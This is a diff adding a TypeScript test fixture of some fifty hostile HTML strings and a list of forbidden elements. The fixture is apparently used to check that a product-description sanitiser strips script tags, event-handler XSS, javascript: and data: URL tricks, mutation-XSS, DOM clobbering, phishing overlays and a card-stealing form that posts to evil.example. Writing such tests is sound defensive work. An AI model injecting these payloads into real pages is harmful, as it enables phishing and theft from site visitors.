@@ -1,0 +1,63 @@
+/**
+ * Hostile description HTML (issue 15, item 9): script, event handlers, forms, frames, overlays, trackers, DOM
+ * clobbering, mutation XSS and URL tricks. Shared by the DOM test (happy-dom) and the browser check (Chromium).
+ */
+export const hostilePayloads: readonly string[] = [
+  '<script>window.__pwned = 1</script>',
+  '<img src=x onerror="window.__pwned = 2">',
+  '<svg onload="window.__pwned = 3"></svg>',
+  '<svg><script>window.__pwned = 4</script></svg>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>parent.__pwned = 6</script>"></iframe>',
+  '<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay now</button></form>',
+  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session expired. Log in again.</div>',
+  '<style>body{display:none}</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<a href="javascript:window.__pwned=13">click</a>',
+  '<a href="JaVaScRiPt:window.__pwned=14">click</a>',
+  '<a href="&#106;avascript:window.__pwned=15">click</a>',
+  '<a href="java&#x09;script:window.__pwned=16">click</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+  '<a href="vbscript:msgbox(18)">click</a>',
+  '<a href="https://evil.example/" target="_self">off-site</a>',
+  '<a href="//evil.example/path">protocol-relative</a>',
+  '<img src="https://tracker.evil.example/pixel.gif" alt="pixel">',
+  '<img src="//evil.example/x.png" alt="relative protocol">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=" alt="data">',
+  '<img srcset="https://evil.example/x.png 2x" src="/media/img/product/a.svg" alt="srcset">',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=27">',
+  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=28>"></p></noscript>',
+  '<textarea><script>window.__pwned=29</script></textarea>',
+  '<select><option>pick me</option></select>',
+  '<video src="https://evil.example/x.mp4" autoplay></video>',
+  '<audio src=x onerror="window.__pwned=32"></audio>',
+  '<details open ontoggle="window.__pwned=33"><summary>more</summary></details>',
+  '<p onclick="window.__pwned=34">click me</p>',
+  '<p id="root">clobbered root</p><img name="cookie" src="/media/img/product/a.svg">',
+  '<form id="test"><input name="attributes"></form>',
+  '<a href="https://evil.example/" ping="https://evil.example/ping">ping</a>',
+  '<p class="product-page__overlay visually-hidden">class</p>',
+  '<table background="javascript:window.__pwned=39"><tr><td>cell</td></tr></table>',
+  '<div data-bind="x" aria-hidden="true" hidden>hidden</div>',
+  '<img src="/media/img/product/a.svg" width="99999" style="position:fixed;inset:0">',
+  '<a href="https://evil.example/"><img src="https://evil.example/x.png" alt="linked tracker"></a>',
+  '<template><script>window.__pwned=43</script></template>',
+  '<button formaction="https://evil.example/">x</button>',
+  '<isindex action="javascript:window.__pwned=45" type="image">',
+  '<marquee onstart="window.__pwned=46">scroll</marquee>',
+  '<input autofocus onfocus="window.__pwned=47">',
+  '<a href="mailto:someone@evil.example">mail</a>',
+  '<a href="  javascript:window.__pwned=49">leading spaces</a>',
+  '<svg><a xlink:href="javascript:window.__pwned=50"><text>svg link</text></a></svg>',
+  '<img src="x" onerror="window.__pwned=51"//',
+  '<a href="https://evil.example/"  rel="opener">opener</a>',
+];
+
+/** Elements no description may bring. */
+export const forbiddenElements =
+  'script, style, iframe, frame, frameset, object, embed, form, input, button, textarea, select, option, svg, math, ' +
+  'link, meta, base, video, audio, source, template, noscript, details, marquee, isindex, keygen';
